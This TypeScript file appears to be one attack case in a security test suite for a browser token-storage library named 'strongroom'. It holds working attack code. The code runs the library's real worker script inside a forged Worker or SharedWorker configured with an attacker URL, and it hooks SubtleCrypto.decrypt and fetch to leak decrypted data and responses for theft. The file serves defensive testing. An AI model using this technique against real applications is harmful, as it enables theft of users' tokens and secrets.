import { attack } from "../attack.js";

export default attack({
  name: "runs the worker's code with its own configuration",
  threat: "single-execution theft",
  target: "strongroom",
  async payload(it) {
    const config = {
      provider: {
        issuer: it.attackerUrl,
        clientId: it.clientId,
        authorizationEndpoint: it.authorizationEndpoint,
        tokenEndpoint: `${it.attackerUrl}/token`,
      },
      scopes: it.scope.split(" "),
      api: [{ url: `${it.attackerUrl}/` }, { url: it.apiUrl }],
    };
    // The genuine code, in a worker that records responses and decrypted data.
    const script = `
      const tell = (...values) => new BroadcastChannel("forged").postMessage(values.map(String));
      const { decrypt } = SubtleCrypto.prototype;
      SubtleCrypto.prototype.decrypt = async function (...args) {
        const bytes = await decrypt.apply(this, args);
        tell(new TextDecoder("latin1").decode(bytes.slice(0)));
        return bytes;
      };
      const { fetch } = self;
      self.fetch = async (...args) => {
        const response = await fetch(...args);
        tell(response.status, response.url, [...response.headers]);
        return response;
      };
      importScripts("${new URL("/strongroom-worker.js", it.appUrl)}");
      try { strongroom.start(${JSON.stringify(config)}); } catch (error) { tell(error); }`;
    new BroadcastChannel("forged").onmessage = ({ data }) => it.steal(data);
    for (const url of [
      URL.createObjectURL(new Blob([script], { type: "text/javascript" })),
      `data:text/javascript,${encodeURIComponent(script)}`,
    ]) {
      for (const kind of ["Worker", "SharedWorker"] as const) {
        try {
          new window[kind](it.scriptUrl(url));
        } catch {
          // The page's policy refuses the worker.
        }
      }
    }
    await it.pause(1_500);
  },
});
